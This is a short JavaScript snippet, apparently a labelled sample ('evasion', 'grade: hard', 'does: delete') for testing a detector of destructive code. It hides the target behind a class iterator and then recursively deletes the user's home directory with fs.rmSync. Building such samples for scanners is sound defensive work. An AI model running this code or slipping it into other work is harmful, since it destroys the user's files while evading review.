// evasion: a class whose *[Symbol.iterator]() yields process.env.HOME; for-of over an instance removes it
// grade: hard; does: delete
'use strict';
const fs = require('fs'); const os = require('os');
class Plan { *[Symbol.iterator]() { yield process.env.HOME; } }
for (const t of new Plan()) fs.rmSync(t, { recursive: true });
